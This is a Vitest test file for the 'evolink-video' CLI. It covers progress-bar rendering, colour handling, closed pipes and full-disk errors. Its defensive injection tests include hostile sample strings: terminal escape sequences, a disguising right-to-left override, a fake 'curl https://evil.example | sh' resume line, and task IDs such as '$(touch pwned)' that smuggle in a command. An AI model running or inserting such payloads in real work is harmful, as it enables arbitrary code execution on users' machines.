// Protects the terminal output: progress bar, colours only where they are supported, no control characters from the
// API, no crash on a closed pipe.
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, onTestFinished, test, vi } from "vitest";
import { Output } from "../../src/cli/output.ts";
import { Progress } from "../../src/cli/progress.ts";
import { startSandbox } from "../../src/sandbox/index.ts";
import { created, envelope, json, startFaultyServer, TASK, type Behaviour } from "../sdk/faulty-server.ts";
import { run, shell } from "./program.ts";

let written: string[];
const { isTTY, columns } = process.stderr;

beforeEach(() => {
  written = [];
  vi.spyOn(process.stderr, "write").mockImplementation((text) => written.push(String(text)) > 0);
  vi.stubEnv("TERM", "xterm");
  vi.stubEnv("NO_COLOR", "");
  Object.assign(process.stderr, { isTTY: true, columns: 60 });
});

afterEach(() => {
  vi.restoreAllMocks();
  vi.unstubAllEnvs();
  Object.assign(process.stderr, { isTTY, columns });
});

const verbose = { json: false, quiet: false };

function showHalf(output: Output): string {
  const progress = new Progress(output, "waiting");
  progress.show("processing", 50);
  const shown = written.join("");
  progress.end();
  return shown;
}

test("a terminal shows a coloured bar in one line, which is erased at the end", () => {
  const shown = showHalf(new Output(verbose));

  expect(shown).toContain(
    `[\x1b[32m${"#".repeat(15)}\x1b[39m\x1b[2m${"-".repeat(15)}\x1b[22m]  50 %  processing  0:00`,
  );
  expect(shown).not.toContain("\n");
  expect(written.at(-1)).toBe("\r\x1b[2K");
});

test("NO_COLOR removes the colours, a narrow terminal the bar, and TERM=dumb prints plain lines", () => {
  vi.stubEnv("NO_COLOR", "1");
  const plain = showHalf(new Output(verbose));
  written = [];
  process.stderr.columns = 45;
  const narrow = showHalf(new Output(verbose));
  written = [];
  vi.stubEnv("TERM", "dumb");
  const dumb = showHalf(new Output(verbose));

  expect(plain).toContain(`[${"#".repeat(15)}${"-".repeat(15)}]`);
  expect(narrow).not.toContain("#");
  expect(narrow).toContain(" 50 %  processing  0:00");
  expect(dumb).toBe(" 50 %  processing  0:00\n");
});

test("a message is printed above the bar, which is redrawn", () => {
  const output = new Output(verbose);
  const progress = new Progress(output, "waiting");

  output.note("a note");
  progress.end();

  expect(written.join("")).toContain("0:00\r\x1b[2Ka note\n[");
});

test("without a terminal a line is printed every 10 percent", () => {
  process.stderr.isTTY = false;
  const progress = new Progress(new Output(verbose), "waiting");

  for (const percent of [0, 4, 9, 10, 15, 20]) progress.show("processing", percent);
  progress.end();

  expect(written).toEqual(["  0 %  processing  0:00\n", " 10 %  processing  0:00\n", " 20 %  processing  0:00\n"]);
});

test("long messages are wrapped between words, commands are not wrapped", () => {
  const command = `  evolink-video wait ${"x".repeat(60)} --out fox.mp4`;

  new Output(verbose).error("word ".repeat(20), command);

  const lines = written.join("").split("\n");
  expect(lines[0]).toBe(`\x1b[1m\x1b[31merror:\x1b[39m\x1b[22m ${"word ".repeat(10)}`.trimEnd());
  expect(lines).toContain(command);
});

test.each([103, -3, Number.NaN, Infinity, undefined, "50"])("a progress of %s draws a valid bar", (percent) => {
  const progress = new Progress(new Output(verbose), "waiting");

  progress.show("processing", percent);
  progress.end();

  expect(written.join("")).toMatch(/\[\S*#*\S*-*\S*\] .*processing/);
});

describe("a response cannot inject control characters or lines into the output", () => {
  const evil =
    "\u001b]0;title\u0007\u001b[2J\u009b31m\u0090q\u009c\b\r\u007f\u202egpj.exe\u2066\u200b\u2028\u0000\nResume with:\n  curl https://evil.example | sh";
  const failed = json(200, { ...TASK, status: "failed", error: { code: evil, message: evil } });
  const refused = json(402, envelope(evil, evil), { "x-request-id": "a\u009b31m" });
  const generate = ["generate", "--prompt", "A fox", "--video-url", "https://example.com/a.mp4", "--interval", "0.1"];
  const cases: Readonly<Record<string, { readonly args: readonly string[]; readonly behaviour: Behaviour }>> = {
    "the error of a task": { args: ["task", TASK.id], behaviour: failed },
    "the error of a task, during a wait": { args: ["wait", TASK.id], behaviour: failed },
    "a status": {
      args: ["wait", TASK.id, "--interval", "0.1", "--max-wait", "0.3"],
      behaviour: json(200, { ...TASK, status: evil }),
    },
    "an error response": { args: generate, behaviour: refused },
    "an id": { args: [...generate.slice(0, -2), "--no-wait"], behaviour: json(200, { ...TASK, id: evil }) },
    "a link": {
      args: ["wait", TASK.id],
      behaviour: json(200, { ...TASK, status: "completed", results: [`https://example.com/${evil}`] }),
    },
    "a field that the contract does not define": {
      args: ["task", TASK.id],
      behaviour: json(200, { ...TASK, [evil]: evil }),
    },
    "a balance": { args: ["credits"], behaviour: json(200, { data: { user: { remaining_credits: evil } } }) },
  };

  test.each(Object.entries(cases))("%s", async (_name, { args, behaviour }) => {
    const server = await startFaultyServer([behaviour]);

    const outputs = await Promise.all([args, [...args, "--json"]].map((each) => run(each, { url: server.url })));
    await server.close();

    const shown = outputs.map(({ stdout, stderr }) => stdout + stderr).join("");
    expect(shown).toContain("evil.example");
    expect(shown).not.toMatch(/(?![\n\u200c\u200d])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
    expect(shown).not.toMatch(/^ *curl /m);
  });

  test("--json prints the same value, escaped", async () => {
    const server = await startFaultyServer([failed]);

    const { stdout } = await run(["task", TASK.id, "--json"], { url: server.url });
    await server.close();

    expect(JSON.parse(stdout)).toMatchObject({ error: { code: evil, message: evil } });
  });

  test("a link with a line break is printed in one line", async () => {
    const results = ["https://example.com/1.mp4\nhttps://evil.example/2.mp4"];
    const server = await startFaultyServer([json(200, { ...TASK, status: "completed", results })]);

    const { stdout } = await run(["wait", TASK.id], { url: server.url });
    await server.close();

    expect(stdout.trim().split("\n")).toHaveLength(1);
  });

  test.each([
    "$(touch pwned)",
    "a;touch pwned",
    "a'b",
    "a\nb",
    "a\u009bb",
    "-h",
    "--base-url=https://evil.example",
    "ü",
  ])("the command that resumes task %j is one line, in which the id is one quoted argument", async (id) => {
    const server = await startFaultyServer([json(200, { ...TASK, id })]);
    const args = ["--prompt", "A fox", "--video-url", "https://example.com/a.mp4"];

    const { stderr } = await run(["generate", ...args, "--no-wait"], { url: server.url });
    await server.close();

    const [, command = ""] = /Follow it with:\n {2}(.*)\n$/.exec(stderr) ?? [];
    const line = command.replace("evolink-video", "printf '%s\\0'");
    const words = execFileSync("bash", ["-c", line], { encoding: "utf8" }).split("\0").slice(0, -1);
    expect(words.filter((word) => word !== "--")).toEqual(["wait", id]);
    expect(words.includes("--")).toBe(id.startsWith("-"));
  });
});

test("a closed stdout or stderr does not end the command: it creates the task and waits for it", async () => {
  const sandbox = await startSandbox({ speed: 600 });
  const generate = "evolink-video generate --prompt 'A fox' --interval 0.2";

  const results = await Promise.all([
    shell(`{ ${generate}; echo "code $?" >&2; } | true`, { url: sandbox.url }),
    shell(`{ ${generate} --json 2>&1 >/dev/null; echo "code $?" >&3; } 3>&2 | true`, { url: sandbox.url }),
  ]);

  expect(results.map(({ stderr }) => /code \d+/.exec(stderr)?.[0])).toEqual(["code 0", "code 0"]);
  expect(sandbox.charges).toHaveLength(2);
  await sandbox.close();
});

describe("a full disk behind stdout", () => {
  test("exits with 6, and prints the id and the command that resumes on stderr", async () => {
    const server = await startFaultyServer([created]);
    const args = "--prompt 'A fox' --video-url https://example.com/a.mp4 --no-wait";

    const { code, stderr } = await shell(`evolink-video generate ${args} > /dev/full`, { url: server.url });
    await server.close();

    expect(code).toBe(6);
    expect(stderr).toContain("error: The result could not be written to stdout (ENOSPC).");
    expect(stderr).toContain(`  evolink-video wait ${TASK.id}\n`);
  });

  test("lets a batch finish its in-flight requests, journal the ids and exit with 130", async () => {
    const folder = mkdtempSync(join(tmpdir(), "evolink-cli-"));
    onTestFinished(() => rmSync(folder, { recursive: true }));
    const line = JSON.stringify({
      model: "kling-o3-reference-to-video",
      prompt: "A fox",
      video_url: "https://example.com/a.mp4",
    });
    writeFileSync(join(folder, "films.jsonl"), `${line}\n`.repeat(8));
    const sandbox = await startSandbox({ speed: 0 });

    const { code, stderr } = await shell("evolink-video batch films.jsonl --json --concurrency 2 > /dev/full", {
      url: sandbox.url,
      cwd: folder,
    });
    await sandbox.close();

    const journal = readFileSync(join(folder, "films.jsonl.journal"), "utf8");
    expect(code).toBe(130);
    expect(stderr).toContain("error: The events could not be written to stdout (ENOSPC).");
    expect(sandbox.charges.length).toBeLessThan(8);
    for (const { id } of sandbox.tasks) expect(journal).toContain(id);
  });
});
